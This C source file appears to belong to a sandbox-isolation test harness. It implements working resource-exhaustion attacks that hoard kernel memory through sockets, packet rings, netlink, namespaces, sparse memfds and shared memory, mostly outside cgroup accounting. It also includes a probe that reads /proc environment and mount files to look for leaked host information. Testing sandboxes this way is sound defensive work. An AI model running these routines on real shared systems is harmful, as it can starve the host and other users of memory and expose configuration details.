/* hoard.c - more of the kernel than was given: memory behind sockets, and what it counts for users
 * and for the machine
 *
 * The work is done in a process of its own, which may be killed for it; what it got so far stands
 * in memory that both see. A hoard counts as refused when it did not get what it asked for.
 * Everything is given back at the end. */
#include "attack/attacker.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/net_tstamp.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <mqueue.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
	HOARD_MS = 3000,
	KEPT_MS = 700,
	CHUNK = 60000,
	RING_BLOCK = 1 << 20,
	RING_BLOCKS = 16,
	BUFFER = 4 << 20,
	MEMINFO_WORDS = 9, /* what SO_MEMINFO gives; the first is what waits to be read */
	SENDS = 60,
	DUMPS = 2000,
	BACKLOG = 1024, /* of a listening socket */
	PROCESS_S = 20,
};

static char chunk[CHUNK];

/* ---- memory: each takes some more and says how many bytes; 0: no more ----------------------- */

static int64_t waiting_in(int fd)
{
	uint32_t info[MEMINFO_WORDS] = { 0 };
	socklen_t len = sizeof info;

	return getsockopt(fd, SOL_SOCKET, SO_MEMINFO, info, &len) < 0 ? 0 : (int64_t)info[0];
}

static void widen(int fd)
{
	int size = BUFFER;

	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
}

static int64_t hoard_ring(void)
{
	struct tpacket_req request = { .tp_block_size = RING_BLOCK,
		.tp_block_nr = RING_BLOCKS,
		.tp_frame_size = 2048,
		.tp_frame_nr = RING_BLOCK / 2048 * RING_BLOCKS };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &request, sizeof request) < 0)
		return 0;
	return (int64_t)RING_BLOCK * RING_BLOCKS;
}

static int64_t hoard_netlink(void)
{
	struct {
		struct nlmsghdr head;
		struct ifinfomsg info;
	} ask = { .head = { .nlmsg_len = sizeof ask,
			  .nlmsg_type = RTM_GETLINK,
			  .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP } };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_ROUTE);

	if (fd < 0)
		return 0;
	widen(fd);
	for (int i = 0; i < DUMPS && send(fd, &ask, sizeof ask, 0) > 0; i++)
		continue;
	return waiting_in(fd);
}

static int64_t hoard_usersock(void)
{
	struct sockaddr_nl self = { .nl_family = AF_NETLINK };
	socklen_t len = sizeof self;
	int to = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK),
	    from = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_USERSOCK);

	if (to < 0 || from < 0)
		return 0;
	widen(to);
	widen(from);
	(void)bind(to, (struct sockaddr *)&self, sizeof self);
	getsockname(to, (struct sockaddr *)&self, &len);
	while (sendto(from, chunk, sizeof chunk, 0, (struct sockaddr *)&self, len) > 0)
		continue;
	close(from);
	return waiting_in(to);
}

/* What nobody reads, to a port of our own. */
static int64_t hoard_datagrams(int type, int protocol)
{
	struct sockaddr_in self = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof self;
	int to = socket(AF_INET, type, protocol), from = socket(AF_INET, SOCK_DGRAM, 0);

	if (to < 0 || from < 0)
		return 0;
	widen(to);
	(void)bind(to, (struct sockaddr *)&self, sizeof self);
	if (type == SOCK_DGRAM)
		getsockname(to, (struct sockaddr *)&self, &len);
	else
		self.sin_port = htons(9);
	for (int i = 0; i < SENDS; i++)
		sendto(from, chunk, sizeof chunk, MSG_DONTWAIT, (struct sockaddr *)&self,
			sizeof self);
	close(from);
	return waiting_in(to);
}

static int64_t hoard_udp(void)
{
	return hoard_datagrams(SOCK_DGRAM, 0);
}

/* Packets that come back to their sender with the time they were sent at. */
static int64_t hoard_returned(void)
{
	struct sockaddr_in nobody = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
		.sin_port = htons(9) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0), times = SOF_TIMESTAMPING_TX_SOFTWARE |
							 SOF_TIMESTAMPING_SOFTWARE |
							 SOF_TIMESTAMPING_OPT_ID;

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_TIMESTAMPING, &times, sizeof times) < 0)
		return 0;
	widen(fd);
	for (int i = 0; i < SENDS; i++)
		sendto(fd, chunk, sizeof chunk / 2, MSG_DONTWAIT, (struct sockaddr *)&nobody,
			sizeof nobody);
	return waiting_in(fd);
}

static int listen_on(struct sockaddr_in *ret, int backlog)
{
	socklen_t len = sizeof *ret;
	int door = socket(AF_INET, SOCK_STREAM, 0);

	*ret = (struct sockaddr_in){ .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	if (bind(door, (struct sockaddr *)ret, sizeof *ret) < 0 || listen(door, backlog) < 0 ||
		getsockname(door, (struct sockaddr *)ret, &len) < 0)
		return -1;
	return door;
}

/* The first message of a connection passes where the kernel would refuse the second. */
static int64_t hoard_first(void)
{
	static struct sockaddr_in self;
	static int door = -1;
	int from = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	ssize_t got;

	if (door < 0 && (door = listen_on(&self, 8)) < 0)
		return 0;
	if (from < 0)
		return 0;
	(void)connect(from, (struct sockaddr *)&self, sizeof self);
	if (accept(door, NULL, NULL) < 0)
		return 0;
	got = send(from, chunk, sizeof chunk, 0);
	return got > 0 ? got : 1;
}

/* The same as hoard_returned on a connection whose other end reads: what comes back is in no table
 * of the kernel's. */
static int64_t hoard_returned_tcp(void)
{
	static struct sockaddr_in self;
	static char sink[CHUNK];
	static int door = -1;
	int times = SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_SOFTWARE |
		    SOF_TIMESTAMPING_OPT_ID,
	    from = socket(AF_INET, SOCK_STREAM, 0), to;

	if (door < 0 && (door = listen_on(&self, 8)) < 0)
		return 0;
	if (from < 0)
		return 0;
	widen(from);
	if (connect(from, (struct sockaddr *)&self, sizeof self) < 0 ||
		(to = accept(door, NULL, NULL)) < 0 ||
		setsockopt(from, SOL_SOCKET, SO_TIMESTAMPING, &times, sizeof times) < 0)
		return 0;
	for (int i = 0; i < SENDS; i++) {
		send(from, chunk, sizeof chunk / 2, MSG_DONTWAIT);
		while (recv(to, sink, sizeof sink, MSG_DONTWAIT) > 0)
			continue;
	}
	close(to);
	return waiting_in(from) + 1;
}

/* Connections that wait to be accepted are on nobody's account yet. */
static int64_t hoard_unaccepted(void)
{
	static struct sockaddr_in self;
	static unsigned number;
	int from = socket(AF_INET, SOCK_STREAM, 0);
	int64_t sent = 0;
	ssize_t got;

	if (number++ % BACKLOG == 0 && listen_on(&self, BACKLOG) < 0)
		return 0;
	if (from < 0 || connect(from, (struct sockaddr *)&self, sizeof self) < 0)
		return 0;
	while (sent < 2 * CHUNK && (got = send(from, chunk, sizeof chunk, MSG_DONTWAIT)) > 0)
		sent += got;
	close(from);
	return sent + 1;
}

/* A socket that was disconnected keeps what waits in it and leaves its table. */
static int64_t hoard_unlisted(void)
{
	struct sockaddr nobody = { .sa_family = AF_UNSPEC };
	struct sockaddr_in self = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
		.sin_port = htons(9) };
	int to = socket(AF_INET, SOCK_RAW, IPPROTO_UDP), from = socket(AF_INET, SOCK_DGRAM, 0);

	if (to < 0 || from < 0)
		return 0;
	widen(to);
	for (int i = 0; i < SENDS / 4; i++)
		sendto(from, chunk, sizeof chunk, MSG_DONTWAIT, (struct sockaddr *)&self,
			sizeof self);
	(void)connect(to, &nobody, sizeof nobody);
	close(from);
	return waiting_in(to);
}

static int64_t hoard_raw(void)
{
	return hoard_datagrams(SOCK_RAW, IPPROTO_UDP);
}

/* Sockets of a network that no process is in. */
static int64_t hoard_elsewhere(void)
{
	static int here = -1;
	struct ifreq lo = { .ifr_name = "lo", .ifr_flags = IFF_UP };
	int64_t got = 0;
	int control;

	if (here < 0)
		here = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
	if (here < 0 || unshare(CLONE_NEWNET) < 0)
		return 0;
	control = socket(AF_INET, SOCK_DGRAM, 0);
	ioctl(control, SIOCSIFFLAGS, &lo);
	close(control);
	for (int i = 0; i < 8; i++)
		got += hoard_raw();
	return setns(here, CLONE_NEWNET) < 0 ? 0 : got;
}

static int64_t hoard_tcp(void)
{
	struct sockaddr_in self = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct timeval patience = { .tv_usec = 20000 };
	socklen_t len = sizeof self;
	int door = socket(AF_INET, SOCK_STREAM, 0), from = socket(AF_INET, SOCK_STREAM, 0);
	int64_t sent = 0;
	ssize_t got;

	if (door < 0 || from < 0 || bind(door, (struct sockaddr *)&self, sizeof self) < 0 ||
		listen(door, 1) < 0 || getsockname(door, (struct sockaddr *)&self, &len) < 0)
		return 0;
	widen(from);
	setsockopt(from, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
	if (connect(from, (struct sockaddr *)&self, sizeof self) < 0 ||
		accept(door, NULL, NULL) < 0)
		return 0;
	close(door);
	for (int i = 0; i < 2 * SENDS && (got = send(from, chunk, sizeof chunk, 0)) > 0; i++)
		sent += got;
	return sent;
}

static int64_t hoard_unix(void)
{
	int pair[2];
	int64_t sent = 0;
	ssize_t got;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) < 0)
		return 0;
	widen(pair[0]);
	while ((got = send(pair[0], chunk, sizeof chunk, 0)) > 0)
		sent += got;
	return sent;
}

static int64_t hoard_pipe(void)
{
	int pair[2];
	int64_t sent = 0;
	ssize_t got;

	if (pipe2(pair, O_NONBLOCK) < 0)
		return 0;
	fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
	while ((got = write(pair[1], chunk, sizeof chunk)) > 0)
		sent += got;
	return sent;
}

static int64_t hoard_memfd(void)
{
	int fd = memfd_create("hoard", 0);
	int64_t written = 0;
	ssize_t got;

	while (fd >= 0 && written < (int64_t)RING_BLOCK * RING_BLOCKS &&
		(got = write(fd, chunk, sizeof chunk)) > 0)
		written += got;
	return written;
}

/* Terabytes without a byte in them. */
static int64_t hoard_sparse(void)
{
	int fd = memfd_create("sparse", 0);

	return fd >= 0 && ftruncate(fd, (off_t)8 << 40) == 0 ? (int64_t)8 << 40 : 0;
}

static int64_t hoard_segment(void)
{
	return shmget(IPC_PRIVATE, (size_t)4 << 40, IPC_CREAT | SHM_NORESERVE | 0600) >= 0
		       ? (int64_t)4 << 40
		       : 0;
}

/* ---- what the kernel counts: one more each -------------------------------------------------- */

static int64_t hoard_inotify(void)
{
	return inotify_init1(0) >= 0;
}

static int64_t hoard_signal(void)
{
	return sigqueue(getpid(), SIGRTMIN + 1, (union sigval){ 0 }) == 0;
}

static int64_t hoard_mqueue(void)
{
	static unsigned number;
	char name[32];
	mqd_t queue;

	snprintf(name, sizeof name, "/hoard-%d-%u", (int)getpid(), number++);
	queue = mq_open(name, O_CREAT | O_RDWR, 0600, NULL);
	mq_unlink(name);
	return queue >= 0;
}

/* On a mount of the box's own making, without a limit, where that is possible. */
static int64_t hoard_terminal(void)
{
	static const char *path;

	if (!path) {
		mkdir("/tmp", 01777);
		mkdir("/tmp/pts", 0755);
		path = mount("devpts", "/tmp/pts", "devpts", 0, "newinstance,ptmxmode=0666") == 0
			       ? "/tmp/pts/ptmx"
			       : "/dev/pts/ptmx";
	}
	return open(path, O_RDWR | O_NOCTTY) >= 0;
}

/* They end with who made them. */
static int64_t hoard_process(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		alarm(PROCESS_S);
		pause();
		_exit(0);
	}
	return pid > 0;
}

static const struct {
	const char *name;
	int64_t (*more)(void);
	int shift; /* what is asked for is in these units */
} hoards[] = {
	{ "ring", hoard_ring, 20 },
	{ "netlink", hoard_netlink, 20 },
	{ "usersock", hoard_usersock, 20 },
	{ "udp", hoard_udp, 20 },
	{ "raw", hoard_raw, 20 },
	{ "tcp", hoard_tcp, 20 },
	{ "returned", hoard_returned, 20 },
	{ "returned-tcp", hoard_returned_tcp, 20 },
	{ "first", hoard_first, 20 },
	{ "unaccepted", hoard_unaccepted, 20 },
	{ "unlisted", hoard_unlisted, 20 },
	{ "elsewhere", hoard_elsewhere, 20 },
	{ "unix", hoard_unix, 20 },
	{ "pipe", hoard_pipe, 20 },
	{ "memfd", hoard_memfd, 20 },
	{ "sparse", hoard_sparse, 40 },
	{ "segment", hoard_segment, 40 },
	{ "inotify", hoard_inotify, 0 },
	{ "signals", hoard_signal, 0 },
	{ "queues", hoard_mqueue, 0 },
	{ "terminals", hoard_terminal, 0 },
	{ "processes", hoard_process, 0 },
};

struct shared {
	volatile int64_t got;
	volatile int error;
};

static _Noreturn void work(size_t which, int64_t wanted, int hold_ms, struct shared *shared)
{
	struct rlimit files;
	int64_t since = now_us(), more;
	sigset_t blocked;
	int score = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);

	/* It is the one to be killed, not who reports. */
	if (score >= 0 && write(score, "1000", 4) == 4)
		close(score);
	if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
		files.rlim_cur = files.rlim_max;
		setrlimit(RLIMIT_NOFILE, &files);
	}
	sigemptyset(&blocked);
	sigaddset(&blocked, SIGRTMIN + 1);
	sigprocmask(SIG_BLOCK, &blocked, NULL);
	while (shared->got < wanted && now_us() - since < HOARD_MS * 1000LL) {
		errno = 0;
		more = hoards[which].more();
		if (more <= 0)
			break;
		shared->got += more;
	}
	shared->error = errno;
	/* For others to be looked at meanwhile. */
	if (hold_ms)
		printf("{\"held\":%lld}\n", (long long)shared->got);
	/* What counts is what can be kept: queues that no cgroup counts are looked at five times a
	 * second. */
	if (shared->got >= wanted && hold_ms < KEPT_MS)
		hold_ms = KEPT_MS;
	usleep((useconds_t)hold_ms * 1000);
	_exit(0);
}

void attack_hoard(int argc, char **argv, struct outcome *out)
{
	int64_t since = now_us(), wanted;
	size_t which = 0;
	struct shared *shared = mmap(
		NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int status = 0, hold_ms = argc > 2 ? atoi(argv[2]) : 0;
	pid_t pid;

	while (which < sizeof hoards / sizeof *hoards && strcmp(argv[0], hoards[which].name))
		which++;
	if (which == sizeof hoards / sizeof *hoards || shared == MAP_FAILED) {
		outcome_refused(out, 0, "there is no hoard '%s'", argv[0]);
		return;
	}
	wanted = strtoll(argv[1], NULL, 10) << hoards[which].shift;
	pid = fork();
	if (pid == 0)
		work(which, wanted, hold_ms, shared);
	waitpid(pid, &status, 0);
	if (shared->got >= wanted && !WIFSIGNALED(status))
		outcome_through(out, since, "got all of %s", argv[1]);
	else
		outcome_refused(out, since, "%s with %lld of %s",
			WIFSIGNALED(status) ? "killed"
			: shared->error	    ? strerrorname_np(shared->error)
					    : "no more",
			(long long)(shared->got >> hoards[which].shift), argv[1]);
	outcome_detail(out, "%lld", (long long)(shared->got >> hoards[which].shift));
}

/* Whether any file that a box can read has WORD in it. */
void attack_told(int argc, char **argv, struct outcome *out)
{
	static const char *const files[] = { "/proc/self/mountinfo", "/proc/self/mounts",
		"/proc/self/cgroup", "/proc/1/cgroup", "/proc/cmdline", "/proc/swaps",
		"/proc/self/environ", "/proc/sys/kernel/core_pattern" };
	static char text[TEXT_MAX];
	int64_t since = now_us();

	(void)argc;
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		int fd = open(files[i], O_RDONLY | O_CLOEXEC);
		ssize_t len = fd < 0 ? 0 : read(fd, text, sizeof text - 1);

		if (fd >= 0)
			close(fd);
		if (len > 0 && memmem(text, (size_t)len, argv[0], strlen(argv[0]))) {
			outcome_through(out, since, "%s tells it", files[i]);
			return;
		}
	}
	outcome_refused(out, since, "no file tells it");
}
